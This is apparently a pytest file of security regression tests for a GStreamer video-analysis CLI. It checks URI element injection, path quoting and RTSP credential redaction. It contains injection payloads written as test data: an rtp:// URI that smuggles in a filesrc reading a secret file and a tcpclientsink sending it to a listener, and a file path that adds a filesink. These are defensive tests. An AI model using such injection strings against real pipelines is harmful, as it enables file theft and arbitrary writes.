"""URIs cannot add GStreamer elements, and credentials in a URI never leave the source element:
real GStreamer, a real TCP listener as the attacker's receiver, a real RTSP server with basic
authentication as the camera."""

from __future__ import annotations

import os
import socket
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest

from pipeline.cli import main as cli
from tests.conftest import REPO, free_port
from tests.helpers.wait import wait_until

pytestmark = pytest.mark.timeout(180)
PASSWORD = "s3cret-Pa55"


@pytest.fixture(autouse=True)
def _clean_env(monkeypatch: pytest.MonkeyPatch) -> None:
    for name in list(os.environ):
        if name.startswith("THERMOSCREEN_"):
            monkeypatch.delenv(name)


def _run(tmp_path: Path, capsys: pytest.CaptureFixture[str], *args: str) -> tuple[int, str]:
    (tmp_path / "none.yaml").write_text("{}\n")
    code = cli(
        ["run", *args, "--broker", f"127.0.0.1:{free_port()}", "--outbox",
         str(tmp_path / "o.sqlite"), "--config", str(tmp_path / "none.yaml"), "--log-level",
         "ERROR", "--flush-timeout", "1"]
    )  # fmt: skip
    return code, capsys.readouterr().err


def test_an_rtp_output_uri_cannot_add_elements(
    tmp_path: Path,
    tiny_model: Path,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """The issue's exploit: the host part of an rtp:// URI carried a filesrc reading a secret
    and a tcpclientsink sending it away; the run exited 0 after sending the file."""
    monkeypatch.chdir(tmp_path)  # a relative location, as in the report: no "/" to end the host
    (tmp_path / "secret.txt").write_text("the clinic's secret\n")
    with socket.socket() as listener:
        listener.bind(("127.0.0.1", 0))
        listener.listen(1)
        listener.settimeout(1.0)
        port = listener.getsockname()[1]
        uri = f"rtp://127.0.0.1 filesrc location=secret.txt ! tcpclientsink host=127.0.0.1:{port}"
        code, err = _run(tmp_path, capsys, "test://", uri, "--model", str(tiny_model),
                         "--max-frames", "3")  # fmt: skip
        with pytest.raises(TimeoutError):
            listener.accept()  # nothing ever connected
    assert code == 2
    lines = [line for line in err.splitlines() if line.startswith("thermoscreen run:")]
    assert lines == [
        f"thermoscreen run: output '{uri}': it contains spaces or control characters; give host "
        "and port as rtp://HOST:PORT, e.g. rtp://192.168.1.20:5000"
    ]


def test_a_file_path_with_launch_syntax_stays_one_path(
    tmp_path: Path, tiny_model: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    pwned = tmp_path / "pwned.mp4"
    source = f'file://{tmp_path}/rec.mp4" ! filesink location="{pwned}'
    code, err = _run(tmp_path, capsys, source, "--model", str(tiny_model))
    assert code == 2
    assert "not found" in err and not pwned.exists()


@pytest.fixture
def rtsp_camera(tmp_path: Path) -> Iterator[int]:
    """GStreamer's RTSP server with basic auth (user / PASSWORD) on a free loopback port."""
    port = free_port()
    log = (tmp_path / "rtsp.log").open("wb")
    cmd = [sys.executable, "-m", "tests.helpers.rtsp_server", str(port), "user", PASSWORD]
    proc = subprocess.Popen(cmd, cwd=REPO, stdout=log, stderr=subprocess.STDOUT)
    try:
        wait_until(lambda: b"serving" in (tmp_path / "rtsp.log").read_bytes(), 20, "RTSP server")
        yield port
    finally:
        proc.terminate()
        proc.wait(timeout=10)
        log.close()


def _run_process(tmp_path: Path, model: Path, source: str) -> tuple[int, str, bytes]:
    outbox = tmp_path / "outbox.sqlite"
    # The tiny test model is synthetic: a live camera needs the explicit consent flag.
    (tmp_path / "none.yaml").write_text("{}\n")
    cmd = [sys.executable, "-m", "pipeline.cli", "run", source, "--model", str(model),
           "--broker", f"127.0.0.1:{free_port()}", "--outbox", str(outbox), "--max-frames", "5",
           "--config", str(tmp_path / "none.yaml"), "--log-level", "DEBUG",
           "--flush-timeout", "1",
           "--allow-synthetic-model"]  # fmt: skip
    env = {k: v for k, v in os.environ.items() if not k.startswith("THERMOSCREEN_")}
    done = subprocess.run(cmd, cwd=REPO, env=env, capture_output=True, timeout=120, check=False)
    text = done.stdout.decode(errors="replace") + done.stderr.decode(errors="replace")
    stored = b"".join(p.read_bytes() for p in tmp_path.glob("outbox.sqlite*"))
    return done.returncode, text, stored


def test_rtsp_credentials_reach_the_camera_and_nothing_else(
    tmp_path: Path, tiny_model: Path, rtsp_camera: int
) -> None:
    source = f"rtsp://user:{PASSWORD}@127.0.0.1:{rtsp_camera}/live"
    code, text, stored = _run_process(tmp_path, tiny_model, source)
    assert "5 results from 5 frames" in text, text  # the camera accepted the password
    assert code == 3  # results wait in the outbox: no broker in this test
    shown = f"rtsp://user:***@127.0.0.1:{rtsp_camera}/live"
    assert shown.encode() in stored  # every result's `source`, redacted
    assert PASSWORD not in text  # logs at DEBUG, the summary, errors
    assert PASSWORD.encode() not in stored  # results, session summary, statuses


def test_a_refused_rtsp_password_is_one_line_without_it(
    tmp_path: Path, tiny_model: Path, rtsp_camera: int
) -> None:
    wrong = "Wr0ng-Pa55"
    source = f"rtsp://user:{wrong}@127.0.0.1:{rtsp_camera}/live"
    code, text, stored = _run_process(tmp_path, tiny_model, source)
    assert code == 2
    lines = [line for line in text.splitlines() if line.startswith("thermoscreen run:")]
    assert len(lines) == 1 and "user:***@127.0.0.1" in lines[0], text
    assert "Unauthorized" in lines[0]
    assert wrong not in text and wrong.encode() not in stored
